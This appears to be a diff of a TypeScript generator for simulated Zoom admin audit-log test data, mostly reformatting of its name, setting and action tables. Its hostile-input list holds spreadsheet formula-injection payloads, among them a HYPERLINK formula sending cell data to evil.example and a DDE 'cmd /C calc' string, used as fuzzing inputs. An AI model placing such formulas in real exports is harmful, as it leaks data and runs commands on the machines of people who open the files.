@@ -52,7 +52,7 @@ export const HOSTILE_STRINGS: string[] = [
   'emoji 😀👩‍👩‍👧‍👦 🇺🇸 flags',
   'Z̶̢a̷͉l̸̨g̵͖o̴̡ combining marks',
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-  '+cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
   '-1+1',
   '@SUM(1)',
   '\t=1+1',
@@ -83,8 +83,48 @@ type Rng = () => number;
 const pick = <T>(rng: Rng, xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)];
 const int = (rng: Rng, lo: number, hi: number): number => lo + Math.floor(rng() * (hi - lo + 1));
 
-const FIRST = ['jane', 'john', 'maria', 'wei', 'aisha', 'lukas', 'sofia', 'raj', 'emma', 'omar', 'yuki', 'carlos', 'nina', 'ben', 'fatima', 'li', 'olga', 'sam', 'priya', 'tom'];
-const LAST = ['doe', 'smith', 'garcia', 'chen', 'khan', 'muller', 'rossi', 'patel', 'brown', 'haddad', 'tanaka', 'lopez', 'ivanova', 'okafor', 'nguyen', 'kim', 'silva', 'jones'];
+const FIRST = [
+  'jane',
+  'john',
+  'maria',
+  'wei',
+  'aisha',
+  'lukas',
+  'sofia',
+  'raj',
+  'emma',
+  'omar',
+  'yuki',
+  'carlos',
+  'nina',
+  'ben',
+  'fatima',
+  'li',
+  'olga',
+  'sam',
+  'priya',
+  'tom',
+];
+const LAST = [
+  'doe',
+  'smith',
+  'garcia',
+  'chen',
+  'khan',
+  'muller',
+  'rossi',
+  'patel',
+  'brown',
+  'haddad',
+  'tanaka',
+  'lopez',
+  'ivanova',
+  'okafor',
+  'nguyen',
+  'kim',
+  'silva',
+  'jones',
+];
 const ADMIN_DOMAINS = ['example.com', 'corp.example.org', 'it.example.net'];
 const USER_DOMAINS = ['example.com', 'corp.example.org', 'it.example.net', 'contractors.example.com'];
 
@@ -120,12 +160,42 @@ function meetingId(rng: Rng): string {
 }
 const onOff = (rng: Rng): [string, string] => (rng() < 0.5 ? ['On', 'Off'] : ['Off', 'On']);
 
-const USER_SETTINGS = ['Cloud Recording', 'Join Before Host', 'Waiting Room', 'Screen Sharing', 'Require Passcode for Meetings', 'Local Recording', 'Breakout Room', 'Allow Live Streaming'];
-const ACCOUNT_SETTINGS = ['Only authenticated users can join meetings', 'Cloud Recording', 'Automatic Recording', 'Embed passcode in invite link', 'Allow users to change their name', 'Data Center Regions'];
+const USER_SETTINGS = [
+  'Cloud Recording',
+  'Join Before Host',
+  'Waiting Room',
+  'Screen Sharing',
+  'Require Passcode for Meetings',
+  'Local Recording',
+  'Breakout Room',
+  'Allow Live Streaming',
+];
+const ACCOUNT_SETTINGS = [
+  'Only authenticated users can join meetings',
+  'Cloud Recording',
+  'Automatic Recording',
+  'Embed passcode in invite link',
+  'Allow users to change their name',
+  'Data Center Regions',
+];
 const DEPARTMENTS = ['Engineering', 'Sales', 'Marketing', 'Finance', 'HR', 'Legal', 'Support', 'Operations'];
-const ROOMS = ['HQ-3F Boardroom', 'HQ-2F Huddle 1', 'Berlin Focus Room', 'Tokyo Large Conf', 'NYC Town Hall', 'London Studio'];
+const ROOMS = [
+  'HQ-3F Boardroom',
+  'HQ-2F Huddle 1',
+  'Berlin Focus Room',
+  'Tokyo Large Conf',
+  'NYC Town Hall',
+  'London Studio',
+];
 const ROLES = ['Admin', 'Helpdesk', 'Billing Admin', 'Auditor', 'Room Manager'];
-const TOPICS = ['Weekly Sync', 'Quarterly All-Hands', 'Customer Onboarding', 'Board Meeting', 'Sprint Review', 'Training: Security 101'];
+const TOPICS = [
+  'Weekly Sync',
+  'Quarterly All-Hands',
+  'Customer Onboarding',
+  'Board Meeting',
+  'Sprint Review',
+  'Training: Security 101',
+];
 
 interface Template {
   weight: number;
@@ -137,15 +207,25 @@ const TEMPLATES: Record<string, Template> = {
     weight: 34,
     actions: [
       ['Add', 3, (r) => `Add User ${userEmail(r)} - User Type: ${pick(r, ['Basic', 'Licensed'])}`],
-      ['Update', 6, (r) => {
-        const email = userEmail(r);
-        switch (int(r, 0, 3)) {
-          case 0: { const n = fullName(r); return `Update User ${email} - Display Name: from '${n}' to '${n.split(' ')[0]} ${n.split(' ')[1][0]}.'`; }
-          case 1: return `Update User ${email} - Department: from '${pick(r, DEPARTMENTS)}' to '${pick(r, DEPARTMENTS)}'`;
-          case 2: return `Update User ${email} - User Type: from 'Basic' to 'Licensed'`;
-          default: return `Update User ${email} - Job Title: from 'Engineer' to 'Senior Engineer'`;
-        }
-      }],
+      [
+        'Update',
+        6,
+        (r) => {
+          const email = userEmail(r);
+          switch (int(r, 0, 3)) {
+            case 0: {
+              const n = fullName(r);
+              return `Update User ${email} - Display Name: from '${n}' to '${n.split(' ')[0]} ${n.split(' ')[1][0]}.'`;
+            }
+            case 1:
+              return `Update User ${email} - Department: from '${pick(r, DEPARTMENTS)}' to '${pick(r, DEPARTMENTS)}'`;
+            case 2:
+              return `Update User ${email} - User Type: from 'Basic' to 'Licensed'`;
+            default:
+              return `Update User ${email} - Job Title: from 'Engineer' to 'Senior Engineer'`;
+          }
+        },
+      ],
       ['Delete', 2, (r) => `Delete User ${userEmail(r)}${r() < 0.5 ? ' - Transfer data to ' + userEmail(r) : ''}`],
       ['Batch Update', 1, (r) => `Batch Update Users - ${int(r, 2, 250)} users updated via CSV - User Type: Licensed`],
       ['Deactivate', 1, (r) => `Deactivate User ${userEmail(r)}`],
@@ -155,15 +235,40 @@ const TEMPLATES: Record<string, Template> = {
   'User Settings': {
     weight: 12,
     actions: [
-      ['Update', 5, (r) => { const [a, b] = onOff(r); return `Update User Settings ${userEmail(r)} - ${pick(r, USER_SETTINGS)}: from '${a}' to '${b}'`; }],
-      ['Batch Update', 1, (r) => { const [a, b] = onOff(r); return `Batch Update User Settings - ${int(r, 2, 120)} users - ${pick(r, USER_SETTINGS)}: from '${a}' to '${b}'`; }],
+      [
+        'Update',
+        5,
+        (r) => {
+          const [a, b] = onOff(r);
+          return `Update User Settings ${userEmail(r)} - ${pick(r, USER_SETTINGS)}: from '${a}' to '${b}'`;
+        },
+      ],
+      [
+        'Batch Update',
+        1,
+        (r) => {
+          const [a, b] = onOff(r);
+          return `Batch Update User Settings - ${int(r, 2, 120)} users - ${pick(r, USER_SETTINGS)}: from '${a}' to '${b}'`;
+        },
+      ],
     ],
   },
   Account: {
     weight: 11,
     actions: [
-      ['Update', 5, (r) => { const [a, b] = onOff(r); return `Update Account Settings - ${pick(r, ACCOUNT_SETTINGS)}: from '${a}' to '${b}'`; }],
-      ['Add', 1, (r) => `Add Associated Domain ${pick(r, ['example.io', 'example.co.uk', 'example.de', 'acme.example'])}`],
+      [
+        'Update',
+        5,
+        (r) => {
+          const [a, b] = onOff(r);
+          return `Update Account Settings - ${pick(r, ACCOUNT_SETTINGS)}: from '${a}' to '${b}'`;
+        },
+      ],
+      [
+        'Add',
+        1,
+        (r) => `Add Associated Domain ${pick(r, ['example.io', 'example.co.uk', 'example.de', 'acme.example'])}`,
+      ],
       ['Delete', 1, (r) => `Delete Associated Domain ${pick(r, ['old.example.com', 'legacy.example.org'])}`],
       ['Sign In', 1, (r) => `Sign In - Admin portal sign-in from 203.0.113.${int(r, 1, 254)}`],
     ],
@@ -171,7 +276,14 @@ const TEMPLATES: Record<string, Template> = {
   Billing: {
     weight: 3,
     actions: [
-      ['Update', 3, (r) => { const n = int(r, 10, 400); return `Update Plan - Licenses: from '${n}' to '${n + int(r, 1, 50)}'`; }],
+      [
+        'Update',
+        3,
+        (r) => {
+          const n = int(r, 10, 400);
+          return `Update Plan - Licenses: from '${n}' to '${n + int(r, 1, 50)}'`;
+        },
+      ],
       ['Add', 1, () => 'Add Plan - Zoom Webinar 500 (1 license)'],
       ['Update', 1, (r) => `Update Billing Contact - Email: from '${userEmail(r)}' to '${userEmail(r)}'`],
     ],
@@ -180,7 +292,14 @@ const TEMPLATES: Record<string, Template> = {
     weight: 5,
     actions: [
       ['Add', 2, (r) => `Add IM Group '${pick(r, DEPARTMENTS)}' (${int(r, 2, 80)} members)`],
-      ['Update', 2, (r) => { const d = pick(r, DEPARTMENTS); return `Update IM Group '${d}' - Name: from '${d}' to '${d} EMEA'`; }],
+      [
+        'Update',
+        2,
+        (r) => {
+          const d = pick(r, DEPARTMENTS);
+          return `Update IM Group '${d}' - Name: from '${d}' to '${d} EMEA'`;
+        },
+      ],
       ['Delete', 1, (r) => `Delete IM Group '${pick(r, DEPARTMENTS)} (old)'`],
     ],
   },
@@ -203,7 +322,11 @@ const TEMPLATES: Record<string, Template> = {
   Webinar: {
     weight: 5,
     actions: [
-      ['Update', 3, (r) => `Update Webinar '${pick(r, TOPICS)}' (ID ${meetingId(r)}) - Registration: from 'Off' to 'On'`],
+      [
+        'Update',
+        3,
+        (r) => `Update Webinar '${pick(r, TOPICS)}' (ID ${meetingId(r)}) - Registration: from 'Off' to 'On'`,
+      ],
       ['Add', 1, (r) => `Add Webinar '${pick(r, TOPICS)}' (ID ${meetingId(r)}) for ${userEmail(r)}`],
       ['Delete', 1, (r) => `Delete Webinar '${pick(r, TOPICS)}' (ID ${meetingId(r)})`],
     ],
@@ -212,7 +335,14 @@ const TEMPLATES: Record<string, Template> = {
     weight: 2,
     actions: [
       ['Add', 1, (r) => `Add Sub Account 'Acme ${pick(r, ['EMEA', 'APAC', 'LATAM'])}' - Owner: ${userEmail(r)}`],
-      ['Update', 2, (r) => { const n = int(r, 5, 100); return `Update Sub Account 'Acme ${pick(r, ['EMEA', 'APAC', 'LATAM'])}' - Seats: from '${n}' to '${n + 5}'`; }],
+      [
+        'Update',
+        2,
+        (r) => {
+          const n = int(r, 5, 100);
+          return `Update Sub Account 'Acme ${pick(r, ['EMEA', 'APAC', 'LATAM'])}' - Seats: from '${n}' to '${n + 5}'`;
+        },
+      ],
       ['Delete', 1, () => `Delete Sub Account 'Acme Test'`],
     ],
   },
@@ -220,7 +350,12 @@ const TEMPLATES: Record<string, Template> = {
     weight: 5,
     actions: [
       ['Add', 1, (r) => `Add Role '${pick(r, ROLES)} ${int(r, 2, 9)}'`],
-      ['Update', 2, (r) => `Update Role '${pick(r, ROLES)}' - Privileges: added '${pick(r, ['Users: View', 'Users: Edit', 'Recordings: View', 'Reports: View'])}'`],
+      [
+        'Update',
+        2,
+        (r) =>
+          `Update Role '${pick(r, ROLES)}' - Privileges: added '${pick(r, ['Users: View', 'Users: Edit', 'Recordings: View', 'Reports: View'])}'`,
+      ],
       ['Delete', 1, (r) => `Delete Role '${pick(r, ROLES)} (old)'`],
       ['Assign', 2, (r) => `Assign Role '${pick(r, ROLES)}' to ${userEmail(r)}`],
     ],
@@ -228,7 +363,12 @@ const TEMPLATES: Record<string, Template> = {
   'Zoom Rooms': {
     weight: 9,
     actions: [
-      ['Update', 4, (r) => `Update Zoom Room '${pick(r, ROOMS)}' - ${pick(r, ['Location', 'Display Name', 'Calendar'])}: from '${pick(r, ROOMS)}' to '${pick(r, ROOMS)}'`],
+      [
+        'Update',
+        4,
+        (r) =>
+          `Update Zoom Room '${pick(r, ROOMS)}' - ${pick(r, ['Location', 'Display Name', 'Calendar'])}: from '${pick(r, ROOMS)}' to '${pick(r, ROOMS)}'`,
+      ],
       ['Add', 1, (r) => `Add Zoom Room '${pick(r, ROOMS)} ${int(r, 2, 9)}'`],
       ['Delete', 1, (r) => `Delete Zoom Room '${pick(r, ROOMS)}'`],
       ['Sign In', 1, (r) => `Sign In Zoom Room '${pick(r, ROOMS)}' controller with activation code`],
@@ -237,7 +377,14 @@ const TEMPLATES: Record<string, Template> = {
 };
 
 const UNKNOWN_TEMPLATE: Template['actions'] = [
-  ['Update', 1, (r) => { const [a, b] = onOff(r); return `Update Meeting Settings - ${pick(r, ['Focus mode', 'Meeting reactions', 'Whiteboard'])}: from '${a}' to '${b}'`; }],
+  [
+    'Update',
+    1,
+    (r) => {
+      const [a, b] = onOff(r);
+      return `Update Meeting Settings - ${pick(r, ['Focus mode', 'Meeting reactions', 'Whiteboard'])}: from '${a}' to '${b}'`;
+    },
+  ],
 ];
 
 const DISPLAYS = Object.keys(TEMPLATES);
@@ -257,7 +404,13 @@ function makeEntry(rng: Rng, display: string, timeMs: number): SimEntry {
   const known = TEMPLATES[display];
   const actions = known ? known.actions : UNKNOWN_TEMPLATE;
   const [action, , detail] = pickWeighted(rng, actions, (a) => a[1]);
-  return { time: isoSeconds(timeMs), operator: pick(rng, OPERATORS), category_type: display, action, operation_detail: detail(rng) };
+  return {
+    time: isoSeconds(timeMs),
+    operator: pick(rng, OPERATORS),
+    category_type: display,
+    action,
+    operation_detail: detail(rng),
+  };
 }
 
 /**
@@ -283,7 +436,9 @@ export function generateEntries(opts: { seed: number; count: number; now: number
 
     let ms: number;
     const burst = rng();
-    if (i > 0 && burst < 0.07) ms = prevMs; // same second as the previous one
+    if (i > 0 && burst < 0.07) {
+      ms = prevMs;
+    } // same second as the previous one
     else if (i > 0 && burst < 0.1) ms = Math.min(end, prevMs + int(rng, 1, 5) * 1000);
     else ms = start + Math.floor(rng() * (span + 1));
     ms = Math.floor(ms / 1000) * 1000;
@@ -298,7 +453,8 @@ export function generateEntries(opts: { seed: number; count: number; now: number
       if (rng() >= 0.05) continue;
       const field = pick(rng, fields);
       const h = pick(rng, small);
-      x.e[field] = field === 'operation_detail' && rng() < 0.5 ? `Update User ${h} - Display Name: from '${h}' to 'x'` : h;
+      x.e[field] =
+        field === 'operation_detail' && rng() < 0.5 ? `Update User ${h} - Display Name: from '${h}' to 'x'` : h;
     }
     entries[Math.floor(rng() * entries.length)].e.operation_detail = HUGE_STRING;
   }
